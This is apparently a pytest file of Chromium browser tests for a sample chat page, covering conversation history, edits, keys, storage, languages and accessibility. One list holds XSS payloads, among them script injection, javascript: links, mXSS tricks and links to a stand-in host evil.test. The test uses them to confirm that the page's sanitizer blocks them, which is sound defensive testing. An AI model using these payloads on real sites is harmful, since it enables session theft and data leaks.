"""The page of the sample application as a chat, in Chromium."""

from __future__ import annotations

import json

import pytest

from tests.support.chat_page import ENTER, SHIFT

pytestmark = pytest.mark.parametrize("browser", ["Chromium"], indirect=True)


def ask(page, model, question, *tokens, reason="stop", count=1):
    """Ask, and have it answered."""
    page.ask(question)
    for token in tokens:
        model.write(token)
    model.end(reason, count)
    ended(page)


def ended(page):
    page.browser.wait("document.querySelector('#stop').hidden")


# A conversation.


def test_the_model_is_sent_all_that_was_said(page, model):
    ask(page, model, "Who are you?", "A ", "keeper.")
    ask(page, model, "Of what?", "Of a lighthouse.")
    assert model.messages() == [
        ("user", "Who are you?"),
        ("assistant", "A keeper."),
        ("user", "Of what?"),
    ]


def test_a_conversation_goes_on_after_a_reload(page, model):
    ask(page, model, "Who are you?", "A **keeper**.")
    page.browser.reload()
    page.answers("A keeper.")
    ask(page, model, "Of what?", "Of a lighthouse.")
    assert len(model.messages()) == 3


def test_a_new_conversation_begins_with_nothing(page, model):
    ask(page, model, "Who are you?", "A keeper.")
    page.browser.click("#fresh")
    assert page.questions() == []
    page.browser.reload()
    assert page.questions() == []
    ask(page, model, "Where?", "Here.")
    assert model.messages() == [("user", "Where?")]


FILL = """
for (let size = 2 ** 22; size >= 1; size /= 2)
  try {
    for (let count = 0; ; count += 1) localStorage[`${size}.${count}`] = "x".repeat(size);
  } catch {}
"""


def test_where_the_browser_has_no_room_the_oldest_conversation_goes(page, model):
    page.browser.run("localStorage['conversation:old'] = '1 ' + 'x'.repeat(100_000)")
    page.browser.run("localStorage['conversation:new'] = '2 {}'")
    page.browser.run(FILL)
    ask(page, model, "Who are you?", "A keeper.")
    page.browser.reload()
    page.answers("A keeper.")
    kept = "return ['old', 'new'].map((id) => 'conversation:' + id in localStorage)"
    assert page.browser.run(kept) == [False, True]


def test_an_answer_is_made_anew_and_what_follows_is_dropped(page, model):
    ask(page, model, "Who are you?", "A keeper.")
    ask(page, model, "Of what?", "Of a lighthouse.")
    page.browser.click(".again")
    model.write("A sailor.")
    model.end()
    page.answers("A sailor.")
    assert page.questions() == ["Who are you?"]
    assert model.messages() == [("user", "Who are you?")]
    ended(page)


def test_a_question_is_edited_and_what_follows_is_dropped(page, model):
    ask(page, model, "Who are you?", "A keeper.")
    ask(page, model, "Of what?", "Of a lighthouse.")
    page.browser.click(".edit")
    page.browser.type("#prompt", " Really?" + ENTER)
    page.is_busy()
    model.end()
    ended(page)
    assert page.questions() == ["Who are you? Really?"]
    assert model.messages() == [("user", "Who are you? Really?")]


def test_an_edit_that_is_cancelled_drops_nothing(page, model):
    ask(page, model, "Who are you?", "A keeper.")
    page.browser.click(".edit")
    page.browser.click("#cancel-edit")
    assert page.browser.run("return document.querySelector('#prompt').value") == ""
    ask(page, model, "Of what?", "Of a lighthouse.")
    assert page.questions() == ["Who are you?", "Of what?"]


def test_what_was_being_written_is_there_again_behind_an_edit(page, model):
    ask(page, model, "Who are you?", "A keeper.")
    page.browser.type("#prompt", "A draft")
    page.browser.click(".edit")
    page.browser.type("#prompt", " Really?" + ENTER)
    page.is_busy()
    model.end()
    ended(page)
    assert page.questions() == ["Who are you? Really?"]
    assert page.browser.run("return document.querySelector('#prompt').value") == "A draft"


def test_an_example_is_asked_with_one_click(page, model):
    page.browser.click("#examples button")
    model.write("Light.")
    model.end()
    page.answers("Light.")
    ended(page)
    assert model.messages() == [("user", "Give me three tips for a good night’s sleep.")]


def test_an_answer_is_copied_as_it_was_written(page, model):
    allowed = ["clipboardReadWrite", "clipboardSanitizedWrite"]
    page.browser.command("Browser.grantPermissions", permissions=allowed)
    ask(page, model, "Who?", "A **keeper**.\n\n```\nlet a\n```")
    page.click(".copy")
    page.shows(".copy [data-text]", "Copied")
    assert clipboard(page) == "A **keeper**.\n\n```\nlet a\n```"
    page.click(".copy-code")
    page.shows(".copy-code", "Copied")
    assert clipboard(page) == "let a\n"


def clipboard(page):
    read = "navigator.clipboard.readText().then((text) => (window.copied = text))"
    page.browser.run(f"delete window.copied; {read}")
    page.browser.wait("'copied' in window")
    return page.browser.run("return window.copied")


@pytest.mark.parametrize("count, words", [(200, "Cut at 200 tokens"), (7, "Cut at 7 tokens")])
def test_an_answer_that_is_cut_says_where(page, model, count, words):
    ask(page, model, "Who?", "A keep", reason="length", count=count)
    page.shows(".end", words)


def test_an_answer_without_a_word_says_so(page, model):
    ask(page, model, "Who?")
    page.shows(".end", "The model said nothing")


# Keys.


def test_shift_and_enter_make_a_line(page, model):
    page.browser.type("#prompt", "one" + SHIFT + ENTER)
    page.browser.type("#prompt", "two" + ENTER)
    page.is_busy()
    model.end()
    ended(page)
    assert model.messages() == [("user", "one\ntwo")]


@pytest.mark.parametrize("key", [{"isComposing": True}, {"keyCode": 229}])
def test_enter_that_chooses_a_word_of_an_input_method_does_not_send(page, key):
    page.browser.type("#prompt", "ni hao")
    press = "new KeyboardEvent('keydown', { key: 'Enter', cancelable: true, ...arguments[0] })"
    assert page.browser.run(f"return document.querySelector('#prompt').dispatchEvent({press})", key)
    assert page.questions() == []


def test_a_double_click_on_send_asks_once_and_stops_nothing(page, model):
    page.browser.type("#prompt", "Who?")
    box = "const { x, y } = document.querySelector('#send').getBoundingClientRect()"
    x, y = page.browser.run(f"{box}; return [x + 9, y + 9]")
    for count in (1, 2):
        for kind in ("mousePressed", "mouseReleased"):
            click = {"type": kind, "x": x, "y": y, "button": "left", "clickCount": count}
            page.browser.command("Input.dispatchMouseEvent", **click)
    model.write("A keeper.")
    page.answers("A keeper.")
    assert page.questions() == ["Who?"]
    model.end()
    page.browser.shows("#state", "Ended: complete")


def test_nothing_is_sent_while_an_answer_is_written(page, model):
    page.ask("Who?")
    page.browser.type("#prompt", "And?" + ENTER)
    model.write("A keeper.")
    model.end()
    ended(page)
    assert page.questions() == ["Who?"]
    assert page.browser.run("return document.querySelector('#prompt').value") == "And?"


# Words of a model.

PAYLOADS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload=window.hacked=1><a xlink:href=javascript:window.hacked=1>x</a></svg>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<a href='javascript:window.hacked=1' style='position:fixed;inset:0'>x</a>",
    "<form action=http://evil.test><input name=body><button>x</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=window.hacked=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
    "<link rel=stylesheet href=http://evil.test/a.css><base href=http://evil.test>",
    "<p id=prompt name=attributes class=round>x</p>",
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1) [y](&#106;avascript:window.hacked=1) [z](\x01javascript:a)",
    "[x](data:text/html,<script>window.hacked=1</script>) [y](vbscript:a) [z](//evil.test)",
    '[x](http://evil.test/"onmouseover="window.hacked=1) [y](http://a "t\\"onclick=\\"b")',
    "![x](http://evil.test/pixel.png?secret) ![y](javascript:a) ![z](x\"onerror=\"window.hacked=1)",
    "<http://evil.test/<script>window.hacked=1</script>> https://evil.test/'onclick='a",
    "```html\"><img src=x onerror=window.hacked=1>\n</code></pre><script>hacked = 1</script>\n```",
    "| a | b |\n|:-:|---|\n| <img src=x onerror=window.hacked=1> | [x](javascript:a) |",
    "- [ ] <script>window.hacked=1</script>\n- [x] y",
]
SAFE_TAGS = {
    *("P", "BR", "UL", "LI", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A", "PRE", "CODE"),
    *("DIV", "BUTTON"),  # the page's own
}
SAFE_ATTRIBUTES = {
    *("href", "title", "start", "align", "target", "rel"),
    *("class", "type", "tabindex"),  # the page's own
}
LOOK = """
const found = Array.from(document.querySelectorAll(".text *"));
return found.map(({ tagName, attributes }) =>
  [tagName, Array.from(attributes, ({ name, value }) => [name, value])]);
"""


@pytest.mark.parametrize("wall", ["Markdown", "the sanitizer"])
def test_nothing_that_a_model_writes_runs_or_loads(page, model, wall):
    if wall == "Markdown":
        ask(page, model, "Who?", *(f"{payload}\n\n" for payload in PAYLOADS))
    else:
        ask(page, model, "Who?", "Words.")
        append = "document.querySelector('.text').append(safeNodes(html))"
        script = f"for (const html of payloads) {append}; window.appended = true"
        page.browser.run(
            "const [payloads] = arguments; import('/static/safe_nodes.js')"
            f".then(({{ safeNodes }}) => {{ {script} }})",
            PAYLOADS,
        )
        page.browser.wait("window.appended")
        assert {line["source"] for line in page.browser.console()} <= {"security"}  # of the policy
    for tag, attributes in page.browser.run(LOOK):
        assert tag.upper() in SAFE_TAGS
        assert {name for name, _ in attributes} <= SAFE_ATTRIBUTES
        is_safe_link(dict(attributes))
    assert page.browser.run("return 'hacked' in window") is False
    asked = "performance.getEntriesByType('resource').map(({ name }) => name)"
    assert "evil.test" not in json.dumps(page.browser.run(f"return {asked}"))


def is_safe_link(attributes):
    if "href" in attributes:
        assert attributes["href"].startswith(("http://", "https://"))
        assert attributes["rel"] == "noopener noreferrer nofollow"


def test_markdown_is_shown_as_it_is_meant(page, model):
    markdown = "# A\n\n7. b\n\n- *c*\n- `d`\n- [x] h\n\n| e |\n|--:|\n| f |\n\n[g](https://g.test)"
    ask(page, model, "How?", markdown)
    items = ["h1", "ol[start='7']", "li em", "li code", "li.task"]
    for selector in (*items, "td[align=right]", "a[href='https://g.test']"):
        assert page.texts(f".text {selector}"), selector


def test_what_is_half_written_looks_as_it_will(page, model):
    page.ask("How?")
    model.write("It is **very")
    page.browser.wait("document.querySelector('.text strong')?.textContent === 'very'")
    model.write(" bold**\n\n```\nlet a")
    page.browser.wait("document.querySelector('.text pre')?.textContent.trim() === 'let a'")
    model.end()
    ended(page)


def test_a_block_that_is_whole_stays_the_same_element(page, model):
    page.ask("How?")
    model.write("One.\n\nTwo.\n\nThree.")
    page.browser.wait("document.querySelectorAll('.text p').length === 3")
    page.browser.run("window.first = document.querySelector('.text p')")
    model.write(" Four.\n\nFive.")
    page.browser.wait("document.querySelectorAll('.text p').length === 4")
    assert page.browser.run("return window.first.isConnected")
    model.end()
    ended(page)


# The page is left, and comes back.


def test_behind_the_back_button_an_answer_that_was_stopped_is_not_streaming(page, model):
    page.ask("Who?")
    model.write("A keep")
    page.answers("A keep")
    kept = "JSON.parse(localStorage[Object.keys(localStorage)[0]].replace(/^[0-9]+ /, ''))"
    url = page.browser.run(f"return {kept}.exchanges[0].url")
    page.open("/gallery/")
    page.browser.run("fetch(arguments[0], { method: 'DELETE' })", url)
    assert model.hung_up_before_its_next_token()
    page.browser.back()
    page.shows(".end", "Cancelled")
    page.answers("A keep")
    assert page.browser.run("return document.querySelector('#stop').hidden")


def test_a_question_that_the_server_has_not_got_says_so_after_a_reload(page, model):
    ask(page, model, "Who?", "A keeper.")
    forgotten = "item.replace('\"end\":{', '\"end\":null,\"x\":{')"
    change = f"const item = localStorage[key]; localStorage[key] = {forgotten}"
    page.browser.run(f"for (const key of Object.keys(localStorage)) {{ {change} }}")
    page.browser.reload()
    page.browser.wait("document.querySelector('.answer')?.dataset.state === 'failed'")
    page.answers("A keeper.")


def test_the_answer_of_another_conversation_is_not_taken_for_ones_own(page, model):
    page.ask("Who?")
    model.write("A keeper.")
    page.answers("A keeper.")
    exchange = {"id": "a", "question": "Where?"}  # its answer has no address yet
    kept = "1 " + json.dumps({"id": "x", "exchanges": [exchange]})
    with page.browser.another_tab():
        page.open("/static/page.css")
        page.browser.run("localStorage['conversation:x'] = arguments[0]", kept)
        page.browser.run("sessionStorage.conversation = 'x'")
        page.open()
        page.browser.wait("document.querySelector('.answer')?.dataset.state === 'failed'")
        assert page.questions() == ["Where?"]
    model.end()
    ended(page)


# The page grows.


def test_the_page_follows_the_answer_only_while_its_end_is_in_sight(page, model):
    page.ask("How?")
    lines = "\n\n".join(["line"] * 40)
    model.write(lines)
    at_end = "innerHeight + scrollY >= document.documentElement.scrollHeight - 2"
    page.browser.wait(f"document.querySelectorAll('.text p').length === 40 && {at_end}")
    page.browser.run("window.scrollTo(0, 0)")
    page.browser.wait("!document.querySelector('#latest').hidden")
    model.write("\n\n" + lines)
    page.browser.wait("document.querySelectorAll('.text p').length === 80")
    assert page.browser.run("return scrollY") == 0
    page.browser.click("#latest")
    page.browser.wait(at_end)
    model.end()
    ended(page)


# Languages, and readers of the screen.


@pytest.mark.parametrize(
    "languages, lang, send",
    [("zh-CN,en", "zh-Hans", "发送"), ("zh-HK", "zh-Hant", "傳送"), ("de,en", "en", "Send")],
)
def test_the_page_speaks_the_visitors_language(page, languages, lang, send):
    agent = page.browser.run("return navigator.userAgent")
    override = "Emulation.setUserAgentOverride"
    page.browser.command(override, userAgent=agent, acceptLanguage=languages)
    try:
        page.browser.reload()
        assert page.browser.run("return document.documentElement.lang") == lang
        label = "return document.querySelector('#send').getAttribute('aria-label')"
        assert page.browser.run(label) == send
    finally:
        page.browser.command(override, userAgent=agent, acceptLanguage="en-US")


def test_a_reader_of_the_screen_is_told_the_end_and_every_button_has_a_name(page, model):
    ask(page, model, "Who?", "A keeper.")
    page.browser.shows("#announcement", "Ended: complete")
    nameless = "Array.from(document.querySelectorAll('button, select, textarea, input'))"
    name = "each.getAttribute('aria-label') || each.textContent.trim() || each.labels?.length"
    assert page.browser.run(f"return {nameless}.filter((each) => !({name})).length") == 0
